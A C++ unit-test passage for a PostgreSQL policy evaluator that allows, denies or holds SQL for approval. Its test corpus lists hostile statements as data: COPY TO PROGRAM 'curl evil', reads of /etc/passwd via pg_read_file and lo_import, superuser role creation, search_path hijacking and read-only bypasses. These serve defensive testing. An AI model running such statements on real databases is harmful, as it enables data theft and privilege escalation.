#include "controlplane/policy/evaluator.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace pgwarden::policy {
namespace {

// Three policies that the corpus below is evaluated against.
Policy read_only_policy() {
  Policy p;
  p.name = "analyst_ro";
  p.read_only = true;
  p.allowed_kinds = {"select",
                     "copy_to_stdout",
                     "show",
                     "set:statement_timeout",
                     "set:application_name",
                     "reset",
                     "transaction",
                     "prepared",
                     "explain",
                     "explain_analyze",
                     "listen",
                     "discard"};
  p.allowed_relations = {"public.*", "crm.*"};
  return p;
}

Policy read_write_policy() {
  Policy p;
  p.name = "app_rw";
  p.read_only = false;
  p.allowed_kinds = {"select",
                     "select_for_update",
                     "write",
                     "copy",
                     "show",
                     "set",
                     "reset",
                     "transaction",
                     "prepared",
                     "explain",
                     "explain_analyze",
                     "listen",
                     "notify",
                     "discard"};
  p.allowed_relations = {"public.*", "crm.*"};
  p.approve_kinds = {"delete"};
  // The kinds corpus below is about allowed_kinds/approve_kinds; approvals by effect have
  // their own corpus (EffectApprovals).
  p.approve_unbounded_writes = false;
  return p;
}

Policy admin_policy() {
  Policy p;
  p.name = "dba";
  p.read_only = false;
  p.allowed_kinds = {"*"};
  p.allowed_relations = {"*"};
  p.allowed_functions = {"pg_catalog.pg_terminate_backend", "pg_cancel_backend"};
  p.approve_kinds = {"ddl_drop", "truncate", "copy_program", "do"};
  p.approve_unbounded_writes = false;
  return p;
}

// Expected outcome per policy: A allow, P approve, otherwise deny with the rule:
// ro read_only, ak allowed_kinds, rel allowed_relations, sp set_parameter,
// df dangerous_function, up unknown_prepared_statement, pe parse_error.
struct CorpusRow {
  const char* sql;
  const char* read_only;
  const char* read_write;
  const char* admin;
};

const CorpusRow kCorpus[] = {
    {"SELECT 1", "A", "A", "A"},
    {"SELECT * FROM kv", "A", "A", "A"},
    {"SELECT * FROM crm.customers WHERE id = 1", "A", "A", "A"},
    {"SELECT * FROM secret.payroll", "rel", "rel", "A"},
    {"SELECT * FROM crm.orders o JOIN crm.customers c ON c.id = o.customer_id", "A", "A", "A"},
    {"SELECT * FROM kv WHERE k IN (SELECT k FROM secret.keys)", "rel", "rel", "A"},
    {"SELECT count(*) FROM pg_catalog.pg_class", "rel", "rel", "A"},
    {"SELECT * FROM pg_class", "rel", "rel", "A"},
    {"WITH x AS (SELECT * FROM kv) SELECT * FROM x", "A", "A", "A"},
    {"WITH d AS (DELETE FROM kv RETURNING *) SELECT * FROM d", "ro", "P", "A"},
    {"WITH u AS (UPDATE kv SET v = 'x' RETURNING *) SELECT count(*) FROM u", "ro", "A", "A"},
    {"WITH i AS (INSERT INTO secret.t VALUES (1) RETURNING *) SELECT * FROM i", "ro", "rel", "A"},
    {"SELECT * FROM kv FOR UPDATE", "ro", "A", "A"},
    {"SELECT * FROM kv FOR SHARE", "ro", "A", "A"},
    {"SELECT * FROM kv FOR NO KEY UPDATE SKIP LOCKED", "ro", "A", "A"},
    {"SELECT nextval('s')", "ro", "A", "A"},
    {"SELECT setval('s', 1)", "ro", "A", "A"},
    {"SELECT pg_terminate_backend(123)", "df", "df", "A"},
    {"SELECT pg_cancel_backend(1)", "df", "df", "A"},
    {"SELECT pg_reload_conf()", "df", "df", "df"},
    {"SELECT pg_read_file('/etc/passwd')", "df", "df", "df"},
    {"SELECT * FROM pg_ls_dir('.')", "df", "df", "df"},
    {"SELECT lo_import('/etc/passwd')", "df", "df", "df"},
    {"SELECT lo_export(1, '/tmp/x')", "df", "df", "df"},
    {"SELECT query_to_xml('DELETE FROM kv RETURNING *', true, true, '')", "df", "df", "df"},
    {"SELECT dblink_exec('host=x', 'DROP TABLE kv')", "df", "df", "df"},
    {"SELECT pg_advisory_lock(1)", "A", "A", "A"},
    {"SELECT pg_try_advisory_xact_lock(42)", "A", "A", "A"},
    {"SELECT now(), current_user, version()", "A", "A", "A"},
    {"SELECT pg_sleep(0.1)", "A", "A", "A"},
    {"SELECT set_config('default_transaction_read_only', 'off', false)", "ro", "A", "A"},
    {"SELECT set_config('search_path', 'evil', false)", "sp", "A", "A"},
    {"SELECT pg_catalog.set_config('transaction_read_only', 'off', true)", "ro", "A", "A"},
    {"SELECT set_config(current_setting('x'), 'off', false)", "ro", "sp", "A"},
    {"SELECT pg_notify('ch', 'x')", "ro", "A", "A"},
    {"SELECT txid_current()", "ro", "A", "A"},
    {"INSERT INTO kv VALUES ('a', 'b')", "ro", "A", "A"},
    {"INSERT INTO crm.orders SELECT * FROM crm.orders", "ro", "A", "A"},
    {"INSERT INTO secret.t SELECT 1", "ro", "rel", "A"},
    {"INSERT INTO kv SELECT * FROM secret.t", "ro", "rel", "A"},
    {"INSERT INTO kv VALUES (1, 2) ON CONFLICT (k) DO UPDATE SET v = excluded.v", "ro", "A", "A"},
    {"UPDATE kv SET v = 'x' WHERE k = 'a'", "ro", "A", "A"},
    {"UPDATE crm.orders o SET total = 0 FROM crm.customers c WHERE c.id = o.customer_id", "ro", "A",
     "A"},
    {"UPDATE kv SET v = (SELECT salary FROM secret.payroll LIMIT 1)", "ro", "rel", "A"},
    {"DELETE FROM kv WHERE k = 'a'", "ro", "P", "A"},
    {"DELETE FROM kv USING secret.t WHERE kv.k = t.k", "ro", "rel", "A"},
    {"MERGE INTO kv t USING crm.orders s ON t.k = s.id::text WHEN MATCHED THEN DELETE", "ro", "A",
     "A"},
    {"INSERT INTO kv VALUES (nextval('s'), 'x')", "ro", "A", "A"},
    {"INSERT INTO kv VALUES ('a', 'b') RETURNING *", "ro", "A", "A"},
    {"COPY kv TO STDOUT", "A", "A", "A"},
    {"COPY (SELECT * FROM crm.customers) TO STDOUT WITH CSV", "A", "A", "A"},
    {"COPY kv FROM STDIN", "ro", "A", "A"},
    {"COPY kv TO PROGRAM 'curl evil'", "ro", "ak", "P"},
    {"COPY kv FROM PROGRAM 'id'", "ro", "ak", "P"},
    {"COPY kv TO '/tmp/kv.csv'", "ro", "ak", "A"},
    {"COPY kv FROM '/etc/passwd'", "ro", "ak", "A"},
    {"COPY secret.t TO STDOUT", "rel", "rel", "A"},
    {"COPY (DELETE FROM kv RETURNING *) TO STDOUT", "ro", "P", "A"},
    {"CREATE TABLE t2 (id int)", "ro", "ak", "A"},
    {"CREATE TABLE secret.t2 (id int)", "ro", "ak", "A"},
    {"CREATE INDEX ON kv (v)", "ro", "ak", "A"},
    {"ALTER TABLE kv ADD COLUMN z int", "ro", "ak", "A"},
    {"DROP TABLE kv", "ro", "ak", "P"},
    {"DROP TABLE IF EXISTS kv, crm.orders CASCADE", "ro", "ak", "P"},
    {"CREATE VIEW v AS SELECT * FROM secret.t", "ro", "ak", "A"},
    {"CREATE TABLE t3 AS SELECT * FROM kv", "ro", "ak", "A"},
    {"SELECT * INTO t4 FROM kv", "ro", "ak", "A"},
    {"CREATE SCHEMA s", "ro", "ak", "A"},
    {"TRUNCATE kv", "ro", "ak", "P"},
    {"TRUNCATE crm.orders RESTART IDENTITY", "ro", "ak", "P"},
    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "ro", "ak", "A"},
    {"CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM kv; END $$", "ro",
     "ak", "A"},
    {"CREATE EXTENSION dblink", "ro", "ak", "A"},
    {"ALTER TABLE kv RENAME TO kv_old", "ro", "ak", "A"},
    {"COMMENT ON TABLE kv IS 'x'", "ro", "ak", "A"},
    {"CREATE TRIGGER trg AFTER INSERT ON kv FOR EACH ROW EXECUTE FUNCTION f()", "ro", "ak", "A"},
    {"DROP FUNCTION f()", "ro", "ak", "P"},
    {"REFRESH MATERIALIZED VIEW mv", "ro", "ak", "A"},
    {"CREATE SEQUENCE s2", "ro", "ak", "A"},
    {"GRANT SELECT ON kv TO public", "ro", "ak", "A"},
    {"REVOKE ALL ON crm.customers FROM app", "ro", "ak", "A"},
    {"CREATE ROLE eve LOGIN SUPERUSER", "ro", "ak", "A"},
    {"ALTER ROLE app_readonly SET default_transaction_read_only = off", "ro", "ak", "A"},
    {"GRANT pg_read_server_files TO app", "ro", "ak", "A"},
    {"SET statement_timeout = '5s'", "A", "A", "A"},
    {"SET application_name = 'agent'", "A", "A", "A"},
    {"SET search_path = evil, public", "sp", "A", "A"},
    {"SET search_path TO DEFAULT", "sp", "A", "A"},
    {"SET default_transaction_read_only = off", "ro", "A", "A"},
    {"SET default_transaction_read_only = on", "sp", "A", "A"},
    {"SET default_transaction_read_only TO false", "ro", "A", "A"},
    {"SET SESSION default_transaction_read_only = 'no'", "ro", "A", "A"},
    {"SET LOCAL transaction_read_only = off", "ro", "A", "A"},
    {"SET TRANSACTION READ WRITE", "ro", "A", "A"},
    {"SET TRANSACTION READ ONLY", "A", "A", "A"},
    {"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "A", "A", "A"},
    {"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "ro", "A", "A"},
    {"SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "sp", "A", "A"},
    {"RESET default_transaction_read_only", "ro", "A", "A"},
    {"RESET transaction_read_only", "ro", "A", "A"},
    {"RESET ALL", "ro", "A", "A"},
    {"RESET statement_timeout", "A", "A", "A"},
    {"SHOW search_path", "A", "A", "A"},
    {"SHOW ALL", "A", "A", "A"},
    {"SET ROLE postgres", "sp", "sp", "A"},
    {"SET SESSION AUTHORIZATION postgres", "sp", "sp", "A"},
    {"RESET ROLE", "A", "A", "A"},
    {"BEGIN", "A", "A", "A"},
    {"BEGIN READ ONLY", "A", "A", "A"},
    {"BEGIN READ WRITE", "ro", "A", "A"},
    {"START TRANSACTION READ WRITE", "ro", "A", "A"},
    {"START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ WRITE", "ro", "A", "A"},
    {"COMMIT", "A", "A", "A"},
    {"ROLLBACK", "A", "A", "A"},
    {"SAVEPOINT s1", "A", "A", "A"},
    {"ROLLBACK TO SAVEPOINT s1", "A", "A", "A"},
    {"RELEASE SAVEPOINT s1", "A", "A", "A"},
    {"BEGIN; SELECT * FROM kv; COMMIT", "A", "A", "A"},
    {"BEGIN; DELETE FROM kv; COMMIT", "ro", "P", "A"},
    {"BEGIN READ WRITE; UPDATE kv SET v = 1; COMMIT", "ro", "A", "A"},
    {"EXPLAIN SELECT * FROM kv", "A", "A", "A"},
    {"EXPLAIN DELETE FROM kv", "A", "A", "A"},
    {"EXPLAIN ANALYZE SELECT * FROM kv", "A", "A", "A"},
    {"EXPLAIN ANALYZE DELETE FROM kv", "ro", "P", "A"},
    {"EXPLAIN (ANALYZE, BUFFERS) UPDATE kv SET v = 1", "ro", "A", "A"},
    {"EXPLAIN ANALYZE INSERT INTO secret.t VALUES (1)", "ro", "rel", "A"},
    {"EXPLAIN SELECT * FROM secret.t", "rel", "rel", "A"},
    {"PREPARE p AS SELECT * FROM kv", "A", "A", "A"},
    {"PREPARE p AS DELETE FROM kv", "ro", "P", "A"},
    {"PREPARE p AS DELETE FROM kv; EXECUTE p", "ro", "P", "A"},
    {"PREPARE q(int) AS SELECT * FROM kv WHERE k = $1; EXECUTE q(1)", "A", "A", "A"},
    {"EXECUTE never_prepared", "up", "up", "up"},
    {"PREPARE p AS SELECT 1; EXECUTE p(nextval('s'))", "ro", "A", "A"},
    {"DEALLOCATE ALL", "A", "A", "A"},
    {"DEALLOCATE p", "A", "A", "A"},
    {"PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p", "up", "up", "up"},
    {"DO $$ BEGIN DELETE FROM kv; END $$", "ro", "ak", "P"},
    {"DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$", "ro", "ak", "P"},
    {"CALL maint.cleanup()", "ro", "ak", "A"},
    {"CALL public.archive_orders(30)", "ro", "ak", "A"},
    {"LISTEN jobs", "A", "A", "A"},
    {"UNLISTEN *", "A", "A", "A"},
    {"NOTIFY jobs, 'go'", "ro", "A", "A"},
    {"VACUUM kv", "ro", "ak", "A"},
    {"VACUUM FULL ANALYZE crm.orders", "ro", "ak", "A"},
    {"ANALYZE kv", "ro", "ak", "A"},
    {"LOCK TABLE kv IN ACCESS EXCLUSIVE MODE", "ro", "ak", "A"},
    {"DISCARD ALL", "ro", "A", "A"},
    {"DISCARD PLANS", "A", "A", "A"},
    {"CHECKPOINT", "ro", "ak", "A"},
    {"ALTER SYSTEM SET fsync = off", "ro", "ak", "A"},
    {"LOAD 'auto_explain'", "ro", "ak", "A"},
    {"DECLARE c CURSOR WITH HOLD FOR SELECT * FROM kv", "A", "A", "A"},
    {"FETCH 10 FROM c", "A", "A", "A"},
    {"CLOSE c", "A", "A", "A"},
    {"DECLARE c CURSOR FOR SELECT * FROM secret.t", "rel", "rel", "A"},
    {"SELECT * FORM kv", "pe", "pe", "pe"},
    {"DELETE FROM", "pe", "pe", "pe"},
    {"SELECT 'unterminated", "pe", "pe", "pe"},
    {"", "A", "A", "A"},
    {"-- just a comment", "A", "A", "A"},
    {"SELECT 1; SELECT * FROM secret.t", "rel", "rel", "A"},
    {"SELECT * FROM kv; DELETE FROM kv", "ro", "P", "A"},
    {"DELETE FROM kv; TRUNCATE kv", "ro", "ak", "P"},
    {"SELECT 1; SELECT pg_read_file('x')", "df", "df", "df"},
    {"SET search_path = crm; SELECT * FROM customers", "sp", "A", "A"},
    {"SELECT * FROM \"secret\".\"t\"", "rel", "rel", "A"},
    {"SELECT * FROM SECRET.T", "rel", "rel", "A"},
    {"SELECT * FROM crm.customers c WHERE c.id IN (SELECT id FROM crm.orders)", "A", "A", "A"},
    {"WITH kv AS (SELECT * FROM secret.t) SELECT * FROM kv", "rel", "rel", "A"},
    {"SELECT (SELECT max(v) FROM kv), nextval('s')", "ro", "A", "A"},
    {"SELECT * FROM kv, LATERAL (SELECT * FROM secret.t WHERE t.k = kv.k) x", "rel", "rel", "A"},
    {"VALUES (1), (2)", "A", "A", "A"},
    {"TABLE kv", "A", "A", "A"},
    {"TABLE secret.t", "rel", "rel", "A"},
    {"SELECT * FROM kv UNION SELECT * FROM secret.t", "rel", "rel", "A"},
    {"SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity", "rel", "rel", "A"},
    {"SELECT public.pg_read_file('x')", "df", "df", "df"},
    {"SELECT lo_unlink(1)", "df", "df", "df"},
    {"SELECT ts_stat('SELECT 1')", "df", "df", "df"},
};

std::string expected_rule(std::string_view code) {
  if (code == "ro") return "read_only";
  if (code == "ak") return "allowed_kinds";
  if (code == "rel") return "allowed_relations";
  if (code == "sp") return "set_parameter";
  if (code == "df") return "dangerous_function";
  if (code == "up") return "unknown_prepared_statement";
  if (code == "pe") return "parse_error";
  return "?" + std::string(code);
}

class PolicyCorpus : public ::testing::TestWithParam<std::tuple<CorpusRow, int>> {};

TEST_P(PolicyCorpus, VerdictMatchesExpectation) {
  const auto& [row, which] = GetParam();
  const Policy policy = which == 0   ? read_only_policy()
                        : which == 1 ? read_write_policy()
                                     : admin_policy();
  const std::string_view expected = which == 0   ? row.read_only
                                    : which == 1 ? row.read_write
                                                 : row.admin;
  PreparedStatements session;
  const Decision d = evaluate_sql(policy, row.sql, &session);
  SCOPED_TRACE(std::string("policy ") + policy.name + ": " + row.sql + " -> " +
               std::string(verdict_name(d.verdict)) + " [" + d.rule + "] " + d.message);
  if (expected == "A") {
    EXPECT_EQ(d.verdict, Verdict::kAllow);
  } else if (expected == "P") {
    EXPECT_EQ(d.verdict, Verdict::kApprove);
    EXPECT_EQ(d.rule, "approve_kinds");
    EXPECT_FALSE(d.message.empty());
  } else {
    EXPECT_EQ(d.verdict, Verdict::kDeny);
    EXPECT_EQ(d.rule, expected_rule(expected));
    EXPECT_FALSE(d.message.empty());
  }
}

std::string corpus_name(const ::testing::TestParamInfo<PolicyCorpus::ParamType>& info) {
  static const char* kPolicies[] = {"ReadOnly", "ReadWrite", "Admin"};
  const size_t row = static_cast<size_t>(info.index) / 3;
  return std::string(kPolicies[std::get<1>(info.param)]) + "_row" + std::to_string(row);
}

INSTANTIATE_TEST_SUITE_P(Statements, PolicyCorpus,
                         ::testing::Combine(::testing::ValuesIn(kCorpus),
                                            ::testing::Values(0, 1, 2)),
                         corpus_name);

TEST(Evaluator, CorpusIsLargeEnough) { EXPECT_GE(std::size(kCorpus), 150u); }

TEST(Evaluator, NoMatchingAllowIsDeny) {
  Policy empty;
  empty.name = "nothing";
  const Decision d = evaluate_sql(empty, "SELECT 1");
  EXPECT_EQ(d.verdict, Verdict::kDeny);
  EXPECT_EQ(d.rule, "allowed_kinds");
  EXPECT_NE(d.message.find("\"select\""), std::string::npos) << d.message;
}

TEST(Evaluator, ParseErrorReportsParserMessageAndPosition) {
  const Decision d = evaluate_sql(admin_policy(), "SELECT * FORM kv");
  EXPECT_EQ(d.verdict, Verdict::kDeny);
  EXPECT_EQ(d.rule, "parse_error");
  EXPECT_EQ(d.cursor_position, 10);
  EXPECT_NE(d.message.find("syntax error at or near \"FORM\""), std::string::npos) << d.message;
  EXPECT_NE(d.message.find("character 10"), std::string::npos) << d.message;
}

TEST(Evaluator, StrictestVerdictWinsAndNamesTheStatement) {
  const Decision d =
      evaluate_sql(read_write_policy(), "DELETE FROM kv; SELECT * FROM secret.t; SELECT 1");
  EXPECT_EQ(d.verdict, Verdict::kDeny);
  EXPECT_EQ(d.statement_index, 1);
  EXPECT_EQ(d.message.rfind("statement 2: ", 0), 0u) << d.message;
  const Decision a = evaluate_sql(read_write_policy(), "SELECT 1; DELETE FROM kv");
  EXPECT_EQ(a.verdict, Verdict::kApprove);
  EXPECT_EQ(a.statement_index, 1);
}

TEST(Evaluator, ReadOnlyDenialsExplainThemselves) {
  const Decision d = evaluate_sql(read_only_policy(), "SELECT nextval('order_ids')");
  EXPECT_EQ(d.rule, "read_only");
  EXPECT_NE(d.message.find("pg_catalog.nextval"), std::string::npos) << d.message;
  EXPECT_NE(d.message.find("analyst_ro"), std::string::npos) << d.message;
  const Decision r = evaluate_sql(read_write_policy(), "SELECT * FROM secret.payroll");
  EXPECT_NE(r.message.find("secret.payroll"), std::string::npos) << r.message;
}

TEST(Evaluator, WriteFunctionsStayDeniedUnderReadOnlyEvenIfListed) {
  Policy p = read_only_policy();
  p.allowed_functions = {"*"};
  EXPECT_EQ(evaluate_sql(p, "SELECT nextval('s')").rule, "read_only");
  EXPECT_EQ(evaluate_sql(p, "SELECT pg_read_file('x')").verdict, Verdict::kAllow);
}

TEST(Evaluator, ExecuteInheritsPrepareAcrossCalls) {
  PreparedStatements session;
  const Policy rw = read_write_policy();
  EXPECT_EQ(evaluate_sql(rw, "PREPARE del(text) AS DELETE FROM kv WHERE k = $1", &session).verdict,
            Verdict::kApprove);
  EXPECT_EQ(session.size(), 1u);
  EXPECT_EQ(evaluate_sql(rw, "EXECUTE del('a')", &session).verdict, Verdict::kApprove);
  EXPECT_EQ(evaluate_sql(rw, "PREPARE sel AS SELECT * FROM kv", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(rw, "EXECUTE sel", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(rw, "DEALLOCATE del", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(rw, "EXECUTE del('a')", &session).rule, "unknown_prepared_statement");
  EXPECT_EQ(evaluate_sql(rw, "EXECUTE sel", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(rw, "DISCARD ALL", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(session.size(), 0u);
}

TEST(Evaluator, DeniedPrepareIsNotRemembered) {
  PreparedStatements session;
  const Policy ro = read_only_policy();
  EXPECT_EQ(evaluate_sql(ro, "PREPARE p AS DELETE FROM kv", &session).verdict, Verdict::kDeny);
  EXPECT_EQ(session.size(), 0u);
  // The whole string is denied, so its PREPARE is not remembered either.
  EXPECT_EQ(evaluate_sql(ro, "PREPARE q AS SELECT 1; DELETE FROM kv", &session).verdict,
            Verdict::kDeny);
  EXPECT_EQ(session.size(), 0u);
  EXPECT_EQ(evaluate_sql(ro, "EXECUTE p", &session).rule, "unknown_prepared_statement");
}

TEST(Evaluator, RePrepareOfAKnownNameKeepsTheStricterCandidate) {
  // PostgreSQL refuses a duplicate PREPARE name, so the first statement may still be the
  // live one: EXECUTE must answer for both.
  PreparedStatements session;
  const Policy rw = read_write_policy();
  ASSERT_EQ(evaluate_sql(rw, "PREPARE p AS DELETE FROM kv", &session).verdict, Verdict::kApprove);
  ASSERT_EQ(evaluate_sql(rw, "PREPARE p AS SELECT 1", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(rw, "EXECUTE p", &session).verdict, Verdict::kApprove);
}

TEST(Evaluator, ExplainAnalyzeOfExecuteEvaluatesThePreparedStatement) {
  PreparedStatements session;
  const Policy ro = read_only_policy();
  Policy rw = read_write_policy();
  ASSERT_EQ(evaluate_sql(rw, "PREPARE p AS UPDATE kv SET v = 1", &session).verdict,
            Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(rw, "EXPLAIN ANALYZE EXECUTE p", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(ro, "EXPLAIN ANALYZE EXECUTE p", &session).rule, "read_only");
}

TEST(Evaluator, ExecuteWithoutSessionIsDenied) {
  EXPECT_EQ(evaluate_sql(admin_policy(), "EXECUTE p").rule, "unknown_prepared_statement");
}

TEST(Evaluator, PreparedStatementCapIsEnforced) {
  PreparedStatements session;
  const Policy rw = read_write_policy();
  for (size_t i = 0; i < PreparedStatements::kMaxNames; ++i) {
    ASSERT_EQ(evaluate_sql(rw, "PREPARE p" + std::to_string(i) + " AS SELECT 1", &session).verdict,
              Verdict::kAllow);
  }
  const Decision d = evaluate_sql(rw, "PREPARE one_too_many AS SELECT 1", &session);
  EXPECT_EQ(d.verdict, Verdict::kDeny);
  EXPECT_EQ(d.rule, "prepared_statement_limit");
  EXPECT_EQ(session.size(), PreparedStatements::kMaxNames);
}

TEST(Evaluator, SetParameterEntriesAreGlobs) {
  Policy p = read_only_policy();
  p.allowed_kinds.push_back("set:lock_*");
  EXPECT_EQ(evaluate_sql(p, "SET lock_timeout = '1s'").verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(p, "SET work_mem = '1GB'").rule, "set_parameter");
  p.allowed_kinds.push_back("set:role");
  EXPECT_EQ(evaluate_sql(p, "SET ROLE reporting").verdict, Verdict::kAllow);
}

TEST(Evaluator, ApproveKindsApplyToWrappersAndNestedStatements) {
  Policy p = read_write_policy();
  p.approve_kinds = {"explain_analyze"};
  EXPECT_EQ(evaluate_sql(p, "EXPLAIN ANALYZE SELECT 1").verdict, Verdict::kApprove);
  EXPECT_EQ(evaluate_sql(p, "EXPLAIN SELECT 1").verdict, Verdict::kAllow);
  p.approve_kinds = {"update"};
  EXPECT_EQ(evaluate_sql(p, "WITH u AS (UPDATE kv SET v = 1 RETURNING *) SELECT * FROM u").verdict,
            Verdict::kApprove);
}

TEST(Evaluator, NestedDmlKindMustBeAllowed) {
  Policy p = read_write_policy();
  p.allowed_kinds = {"select", "insert"};
  const Decision d = evaluate_sql(p, "WITH d AS (DELETE FROM kv RETURNING *) SELECT * FROM d");
  EXPECT_EQ(d.verdict, Verdict::kDeny);
  EXPECT_EQ(d.rule, "allowed_kinds");
  EXPECT_NE(d.message.find("DELETE"), std::string::npos) << d.message;
}

TEST(Evaluator, KindAliases) {
  EXPECT_TRUE(kind_listed({"ddl"}, StatementKind::kDdlDrop));
  EXPECT_FALSE(kind_listed({"ddl"}, StatementKind::kCreateFunction));
  EXPECT_TRUE(kind_listed({"copy"}, StatementKind::kCopyFromStdin));
  EXPECT_FALSE(kind_listed({"copy"}, StatementKind::kCopyProgram));
  EXPECT_TRUE(kind_listed({"prepared"}, StatementKind::kExecute));
  EXPECT_TRUE(kind_listed({"write"}, StatementKind::kMerge));
  EXPECT_FALSE(kind_listed({"write"}, StatementKind::kTruncate));
  EXPECT_TRUE(kind_listed({"*"}, StatementKind::kOther));
  EXPECT_TRUE(kind_listed({"set:search_path"}, StatementKind::kSet));
  EXPECT_FALSE(kind_listed({"set:search_path"}, StatementKind::kReset));
}

TEST(Evaluator, FunctionLists) {
  EXPECT_TRUE(is_write_function("nextval"));
  EXPECT_TRUE(is_write_function("setval"));
  EXPECT_FALSE(is_write_function("pg_advisory_lock"));
  EXPECT_TRUE(is_dangerous_function("pg_terminate_backend"));
  EXPECT_TRUE(is_dangerous_function("lo_get"));
  EXPECT_TRUE(is_dangerous_function("dblink"));
  EXPECT_TRUE(is_dangerous_function("table_to_xml"));
  EXPECT_TRUE(is_dangerous_function("pg_stat_reset"));
  EXPECT_TRUE(is_dangerous_function("crosstab3"));
  EXPECT_TRUE(is_dangerous_function("ts_rewrite"));
  EXPECT_FALSE(is_dangerous_function("lower"));
  EXPECT_FALSE(is_dangerous_function("pg_advisory_lock"));
}

TEST(Evaluator, UpstreamStartupParameters) {
  auto ro = upstream_startup_parameters(read_only_policy());
  ASSERT_EQ(ro.size(), 1u);
  EXPECT_EQ(ro["default_transaction_read_only"], "on");
  EXPECT_TRUE(upstream_startup_parameters(read_write_policy()).empty());
}

TEST(Evaluator, VerdictNames) {
  EXPECT_EQ(verdict_name(Verdict::kAllow), "allow");
  EXPECT_EQ(verdict_name(Verdict::kDeny), "deny");
  EXPECT_EQ(verdict_name(Verdict::kApprove), "approve");
}

// --- approvals by effect ------------------------------------------------------------------

struct EffectRow {
  const char* sql;
  const char* rule;  // "" = allow
};

class EffectApprovals : public ::testing::TestWithParam<EffectRow> {};

Policy effect_policy() {
  Policy p = read_write_policy();
  p.name = "effects";
  p.approve_kinds = {};
  p.allowed_kinds.push_back("truncate");
  p.approve_unbounded_writes = true;
  return p;
}

TEST_P(EffectApprovals, UnboundedWritesNeedApproval) {
  PreparedStatements session;
  const Decision d = evaluate_sql(effect_policy(), GetParam().sql, &session);
  SCOPED_TRACE(std::string(GetParam().sql) + " -> " + std::string(verdict_name(d.verdict)) + " [" +
               d.rule + "] " + d.message);
  if (std::string_view(GetParam().rule).empty()) {
    EXPECT_EQ(d.verdict, Verdict::kAllow);
  } else {
    EXPECT_EQ(d.verdict, Verdict::kApprove);
    EXPECT_EQ(d.rule, GetParam().rule);
    EXPECT_NE(d.message.find("policy \"effects\" needs a human approval"), std::string::npos);
  }
}

INSTANTIATE_TEST_SUITE_P(
    Corpus, EffectApprovals,
    ::testing::Values(
        EffectRow{"DELETE FROM kv", "where_absent"},
        EffectRow{"DELETE FROM kv WHERE true", "where_constant_true"},
        EffectRow{"DELETE FROM kv WHERE 1=1", "where_constant_true"},
        EffectRow{"DELETE FROM kv WHERE k = 'a' OR true", "where_constant_true"},
        EffectRow{"UPDATE kv SET v = (SELECT 'x' WHERE true)", "where_absent"},
        EffectRow{"UPDATE kv SET v = 'x' WHERE NOT false", "where_constant_true"},
        EffectRow{"UPDATE kv SET v = 'x' WHERE now() IS NOT NULL", "where_row_independent"},
        EffectRow{"TRUNCATE kv", "truncate"},
        EffectRow{"WITH d AS (DELETE FROM kv RETURNING *) SELECT * FROM d", "where_absent"},
        EffectRow{"BEGIN; UPDATE kv SET v = 1; COMMIT", "where_absent"},
        EffectRow{"PREPARE p AS DELETE FROM kv WHERE 'a' = 'a'", "where_constant_true"},
        EffectRow{"PREPARE p AS DELETE FROM kv WHERE true; EXECUTE p", "where_constant_true"},
        EffectRow{"EXPLAIN ANALYZE DELETE FROM kv", "where_absent"},
        EffectRow{"EXPLAIN DELETE FROM kv", ""}, EffectRow{"DELETE FROM kv WHERE k = 'a'", ""},
        EffectRow{"DELETE FROM kv WHERE false", ""},
        EffectRow{"UPDATE kv SET v = 'x' WHERE status IS NOT NULL", ""},
        EffectRow{"INSERT INTO kv SELECT * FROM kv", ""},
        EffectRow{"UPDATE kv SET v = 'x' WHERE k = k", "where_tautology"},
        EffectRow{"DELETE FROM kv WHERE k > 'a' OR k <= 'a'", "where_tautology"},
        EffectRow{"DELETE FROM kv WHERE k > 'b' OR k <= 'a'", ""},  // order needs a collation
        EffectRow{"DELETE FROM kv WHERE k <> 'a' OR k = 'a'", "where_tautology"},
        EffectRow{"DELETE FROM kv WHERE k IN (SELECT k FROM kv)", "where_tautology"},
        EffectRow{"UPDATE kv SET v = 'x' WHERE v LIKE '%'", "where_tautology"},
        EffectRow{"DELETE FROM kv x WHERE EXISTS (SELECT 1 FROM kv y WHERE y.k = x.k)",
                  "where_tautology"},
        EffectRow{"MERGE INTO kv USING kv s ON kv.k = kv.k WHEN MATCHED THEN DELETE",
                  "where_tautology"},
        EffectRow{"BEGIN; UPDATE kv SET v = 1 WHERE k = 'a'; UPDATE kv SET v = 2 WHERE v = v; "
                  "COMMIT",
                  "where_tautology"}));

TEST(Evaluator, UnknownEffectsAndDropsNeedApprovalWhenAllowed) {
  Policy p = effect_policy();
  p.allowed_kinds = {"*"};
  EXPECT_EQ(evaluate_sql(p, "DO $$ BEGIN DELETE FROM kv; END $$").rule, "unknown_effect");
  EXPECT_EQ(evaluate_sql(p, "CREATE RULE r AS ON INSERT TO kv DO ALSO DELETE FROM crm.orders").rule,
            "unknown_effect");
  EXPECT_EQ(evaluate_sql(p, "CREATE TRIGGER t AFTER INSERT ON kv EXECUTE FUNCTION f()").rule,
            "unknown_effect");
  EXPECT_EQ(evaluate_sql(p, "DROP TABLE kv").rule, "drop");
  EXPECT_EQ(evaluate_sql(p, "DROP VIEW crm.v CASCADE").rule, "drop");
  EXPECT_EQ(evaluate_sql(p, "DROP VIEW crm.v").verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(p, "ALTER TABLE kv DROP COLUMN v").rule, "drop");
  // A kind the policy does not allow stays a deny.
